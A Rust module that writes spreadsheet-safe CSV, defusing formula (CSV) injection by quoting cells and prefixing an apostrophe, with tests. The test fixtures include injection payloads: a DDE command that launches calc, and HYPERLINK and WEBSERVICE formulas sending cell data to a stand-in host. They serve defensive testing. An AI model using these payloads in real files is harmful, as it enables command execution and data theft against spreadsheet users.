//! CSV that is safe to open in a spreadsheet: RFC 4180, and no cell that is taken for a formula.
//!
//! Every cell is quoted, so a spreadsheet that expects semicolons or tabs does not split one into several. A cell that a
//! spreadsheet might evaluate gets an apostrophe in front (OWASP, "CSV Injection"); white space, control characters and
//! invisible ones before the sign do not hide it, since spreadsheets trim them.

/// What a file starts with, so that spreadsheets read it as UTF-8.
pub const BOM: &str = "\u{feff}";

/// One line with its end.
pub fn line<'a>(cells: impl IntoIterator<Item = &'a str>) -> String {
    let cells: Vec<String> = cells.into_iter().map(quoted).collect();
    format!("{}\r\n", cells.join(","))
}

fn quoted(cell: &str) -> String {
    let apostrophe = if is_formula(cell) { "'" } else { "" };
    format!("\"{apostrophe}{}\"", cell.replace('"', "\"\""))
}

/// Whether a spreadsheet might evaluate it. Full-width and small signs count: spreadsheets fold them.
fn is_formula(cell: &str) -> bool {
    let begins_with_control = cell.starts_with(['\t', '\r', '\n']);
    let first = cell.chars().find(|letter| !is_skipped(*letter));
    begins_with_control || first.is_some_and(|letter| "=+-@＝＋－＠﹦﹢﹣﹫−".contains(letter))
}

/// White space, control characters, and characters without a width: byte order mark, soft hyphen, joiners, directions.
fn is_skipped(letter: char) -> bool {
    let invisible = ['\u{ad}', '\u{34f}', '\u{61c}', '\u{180e}', '\u{3164}', '\u{feff}'];
    letter.is_whitespace()
        || letter.is_control()
        || invisible.contains(&letter)
        || matches!(letter, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}')
        || matches!(letter, '\u{fe00}'..='\u{fe0f}' | '\u{fff9}'..='\u{fffb}')
}

#[cfg(test)]
mod tests {
    use super::*;

    const SIGNS: [&str; 13] = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫", "−"];
    const BEFORE: [&str; 18] = [
        "",
        " ",
        "   ",
        "\t",
        "\r",
        "\n",
        "\r\n",
        "\u{0}",
        "\u{b}",
        "\u{c}",
        "\u{1f}",
        "\u{7f}",
        "\u{85}",
        "\u{a0}",
        "\u{3000}",
        "\u{feff}",
        "\u{200b}",
        "\u{202e}\u{2066} ",
    ];
    const AFTER: [&str; 7] = [
        "1+1",
        "cmd|' /C calc'!A0",
        "HYPERLINK(\"https://evil.example?\"&A1)",
        "SUM(A1:A9)",
        "WEBSERVICE(\"https://evil.example\")",
        "8613800138000",
        "",
    ];

    #[test]
    fn no_cell_is_a_formula() {
        for before in BEFORE {
            for sign in SIGNS {
                for after in AFTER {
                    let cell = format!("{before}{sign}{after}");
                    assert!(quoted(&cell).starts_with("\"'"), "{cell:?}");
                }
            }
        }
        for control in ["\tx", "\rx", "\nx"] {
            assert!(quoted(control).starts_with("\"'"), "{control:?}");
        }
    }

    #[test]
    fn other_cells_stay_as_they_are() {
        for cell in
            ["", "王芳", "a=b", "1+1", "me@example.com", "2026-11-21", "'quoted", "  text", "｜", "🙂"]
        {
            assert_eq!(quoted(cell), format!("\"{cell}\""));
        }
    }

    #[test]
    fn quotes_commas_and_line_ends_stay_inside_their_cell() {
        let written = line(["say \"hi\"", "a,b;c\td", "one\r\ntwo"]);
        assert_eq!(written, "\"say \"\"hi\"\"\",\"a,b;c\td\",\"one\r\ntwo\"\r\n");
    }
}
